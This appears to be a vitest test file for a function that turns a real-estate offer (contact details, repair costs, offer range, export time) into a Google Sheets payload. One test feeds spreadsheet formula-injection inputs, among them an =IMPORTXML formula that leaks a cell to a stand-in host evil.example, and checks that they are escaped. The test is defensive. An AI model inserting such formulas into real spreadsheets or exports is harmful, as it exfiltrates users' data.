import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defaultTemplate } from '../offer/built-in-templates';
import { dealFromCalculation } from '../offer/deal';
import { defaultRepairCatalog } from '../repairs/repair-catalog';
import { setRepairCost, toggleRepair } from '../repairs/repair-state';
import { buildSheetsPayload, describeRepairs, formatExportDateTime } from './build-sheets-payload';

const repairs = setRepairCost(
  toggleRepair(toggleRepair(defaultRepairCatalog, 'New Roof'), 'Paint & Sheetrock'),
  'New Roof',
  9000.5,
);
const deal = dealFromCalculation({
  address: '12 Oak St, Austin, TX',
  marketValue: 250000,
  repairs,
  template: defaultTemplate,
});
const contact = {
  name: 'Ann Lee',
  email: 'ann@example.com',
  phone: '512-555-0100',
  city: 'Austin',
  state: 'TX',
  zipCode: '78701',
};
const now = new Date('2025-03-04T15:06:07.000Z');

describe('buildSheetsPayload (§3 sheets payload)', () => {
  it('has exactly the §3 fields', () => {
    expect(buildSheetsPayload({ contact, deal, now, timeZone: 'America/Chicago' })).toStrictEqual({
      firstName: 'Ann',
      lastName: 'Lee',
      email: 'ann@example.com',
      phone: '512-555-0100',
      address: '12 Oak St, Austin, TX',
      city: 'Austin',
      state: 'TX',
      zipCode: '78701',
      marketValue: 250000,
      repairDetails: 'New Roof: $9,000.50, Paint & Sheetrock: $4,000',
      totalRepairs: 13000.5,
      // 250000 × 0.7 − 13000.5 = 161999.5 → floor(141999.5) / floor(156999.5).
      offerLow: '$141,999',
      offerHigh: '$156,999',
      exportDate: '3/4/2025',
      exportTime: '9:06:07 AM',
    });
  });

  it('uses UTC without a time zone', () => {
    expect(buildSheetsPayload({ contact, deal, now })).toMatchObject({
      exportDate: '3/4/2025',
      exportTime: '3:06:07 PM',
    });
  });
});

describe('buildSheetsPayload keeps hostile text as text (formula injection into the user’s spreadsheet)', () => {
  it('escapes an address, contact and repair a visitor typed as formulas, as the CSV exports do', () => {
    const hostileDeal = {
      ...deal,
      address: '=IMPORTXML("https://evil.example/?leak="&A1, "//a")',
      repairs: [{ name: '+HYPERLINK("https://evil.example","click")', cost: 100 }],
    };
    const hostileContact = {
      name: '@SUM(1) -2+3',
      email: '=1@example.com',
      phone: '-512-555-0100',
      city: '\t=cmd',
      state: '+T',
      zipCode: '=1',
    };
    expect(buildSheetsPayload({ contact: hostileContact, deal: hostileDeal, now })).toMatchObject({
      firstName: "'@SUM(1)",
      lastName: "'-2+3",
      email: "'=1@example.com",
      phone: "'-512-555-0100",
      address: `'=IMPORTXML("https://evil.example/?leak="&A1, "//a")`,
      city: "'\t=cmd",
      state: "'+T",
      zipCode: "'=1",
      repairDetails: `'+HYPERLINK("https://evil.example","click"): $100`,
    });
  });

  it('never starts a text field with a formula trigger, whatever is typed', () => {
    const triggers = /^[=+\-@\t\r]/;
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.string(), (typed, repairName, city) => {
        const payload = buildSheetsPayload({
          contact: { ...contact, name: typed, email: typed, phone: typed, city, state: typed, zipCode: typed },
          deal: { ...deal, address: typed, repairs: [{ name: repairName, cost: 1 }] },
          now,
        });
        expect(Object.values(payload).filter((value) => typeof value === 'string' && triggers.test(value))).toEqual([]);
      }),
    );
  });
});

describe('describeRepairs', () => {
  it.each([
    [[], 'None'],
    [[{ name: 'Flooring', cost: 3000 }], 'Flooring: $3,000'],
    [
      [
        { name: 'HVAC Replacement', cost: 12000 },
        { name: 'Flooring', cost: 3000.25 },
      ],
      'HVAC Replacement: $12,000, Flooring: $3,000.25',
    ],
  ])('%j → %s', (input, expected) => {
    expect(describeRepairs(input)).toBe(expected);
  });
});

describe('formatExportDateTime', () => {
  it('crosses midnight with the time zone and prints plain spaces', () => {
    const late = new Date('2025-01-01T02:30:00Z');
    expect(formatExportDateTime(late, 'America/Los_Angeles')).toEqual({
      exportDate: '12/31/2024',
      exportTime: '6:30:00 PM',
    });
    expect(formatExportDateTime(late, 'UTC')).toEqual({ exportDate: '1/1/2025', exportTime: '2:30:00 AM' });
    expect(formatExportDateTime(new Date('2025-06-01T12:00:00Z'), 'UTC').exportTime).toBe('12:00:00 PM');
  });
});
